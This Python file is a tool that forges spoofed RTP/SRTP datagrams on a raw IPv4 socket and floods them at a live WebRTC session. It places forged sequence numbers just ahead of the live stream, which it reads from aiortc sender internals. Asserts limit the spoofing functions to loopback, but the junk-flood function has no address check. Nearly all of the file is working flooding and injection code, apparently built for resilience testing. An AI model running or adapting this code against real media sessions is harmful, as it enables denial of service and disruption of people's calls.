"""Forged SRTP from a spoofed source: IPv4/UDP datagrams built by hand on a
raw socket, so they arrive on a live session's 5-tuple. Loopback only; the
loop is bounded in packets and time."""
import os
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def udp_datagram(src, sport, dst, dport, payload):
    assert dst.startswith("127.") and src.startswith("127.") or src == "192.0.2.2" and dst.startswith("127."), \
        "spoofing is for loopback only"
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + header + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, length, csum) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def forged_rtp(ssrc, size=172, payload_type=111):
    header = struct.pack("!BBHII", 0x80, payload_type, random.randrange(65536),
                         random.randrange(1 << 32), ssrc)
    return header + os.urandom(size - len(header))


def flood(src, sport, dst, dport, ssrc, rate, seconds, size=172, max_packets=200000):
    """Sends forged RTP at `rate` packets/s; returns how many were sent."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = 0
    start = time.monotonic()
    deadline = start + seconds
    try:
        while sent < max_packets:
            now = time.monotonic()
            if now >= deadline:
                break
            due = int((now - start) * rate)
            while sent < due and sent < max_packets:
                raw.sendto(udp_datagram(src, sport, dst, dport, forged_rtp(ssrc, size)), (dst, 0))
                sent += 1
            time.sleep(0.001)
    finally:
        raw.close()
    return sent


def live_sequence(sender):
    """The sequence number an aiortc RTCRtpSender used last (from its
    retransmission history: the entry with the newest timestamp)."""
    history = [p for p in sender._RTCRtpSender__rtp_history.values() if p is not None]
    if not history:
        return None
    ref = history[0].timestamp

    def age(packet):
        return ((packet.timestamp - ref + (1 << 31)) & 0xFFFFFFFF) - (1 << 31)

    newest = max(history, key=lambda p: (age(p), p.sequence_number))
    return newest.sequence_number


def paced_flood(src, sport, dst, dport, ssrc, rate, seconds, seq_base=None, seq_rate=50.0,
                ahead=24, size=172, max_packets=2_000_000):
    """Sends forged RTP at `rate` packets/s, paced every millisecond, from a
    raw socket (UDP checksum 0, as IPv4 allows). With `seq_base` the forged
    sequence numbers sit just ahead of the live stream (which is at
    seq_base + seq_rate * elapsed), where its next packets go; otherwise they
    are random. Returns how many were sent."""
    assert dst.startswith("127.") and (src.startswith("127.") or src == "192.0.2.2"), \
        f"spoofing is for loopback only: {src} -> {dst}"
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    length = 8 + size
    # The kernel fills in the IP checksum and total length of a raw packet.
    packet = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0,
                                   socket.inet_aton(src), socket.inet_aton(dst)) +
                       struct.pack("!HHHH", sport, dport, length, 0) +
                       struct.pack("!BBHII", 0x80, 111, 0, 0, ssrc) + os.urandom(size - 12))
    sent = 0
    start = time.monotonic()
    deadline = start + seconds
    try:
        while sent < max_packets:
            now = time.monotonic()
            if now >= deadline:
                break
            due = min(int((now - start) * rate), max_packets)
            if seq_base is not None:
                live = seq_base + int((now - start) * seq_rate)
            while sent < due:
                seq = (live + 1 + sent % ahead) if seq_base is not None else random.randrange(65536)
                struct.pack_into("!HI", packet, 30, seq & 0xFFFF, sent & 0xFFFFFFFF)
                raw.sendto(packet, (dst, 0))
                sent += 1
            time.sleep(0.001)
    finally:
        raw.close()
    return sent


def junk_flood(dst, dport, rate, seconds, max_packets=100_000):
    """Off-path junk, no spoofing: datagrams no demultiplexer accepts, and
    SRTP-looking datagrams from 5-tuples no session owns, from ordinary
    sockets on many source ports. Returns how many were sent."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    sent = 0
    start = time.monotonic()
    try:
        while sent < max_packets and time.monotonic() - start < seconds:
            due = min(int((time.monotonic() - start) * rate), max_packets)
            while sent < due:
                s = sockets[sent % len(sockets)]
                if sent % 2:
                    payload = bytes([0x42]) + os.urandom(99)  # no RFC 7983 range
                else:
                    payload = forged_rtp(random.randrange(1 << 32), 120)
                s.sendto(payload, (dst, dport))
                sent += 1
            time.sleep(0.001)
    finally:
        for s in sockets:
            s.close()
    return sent


if __name__ == "__main__":
    import argparse
    import json

    parser = argparse.ArgumentParser(description="paced spoofed flood (loopback only)")
    parser.add_argument("src")
    parser.add_argument("sport", type=int)
    parser.add_argument("dst")
    parser.add_argument("dport", type=int)
    parser.add_argument("ssrc", type=int)
    parser.add_argument("--rate", type=float, default=20000)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--seq-base", type=int)
    parser.add_argument("--size", type=int, default=172)
    args = parser.parse_args()
    count = paced_flood(args.src, args.sport, args.dst, args.dport, args.ssrc, args.rate,
                        args.seconds, seq_base=args.seq_base, size=args.size)
    print(json.dumps({"sent": count}))
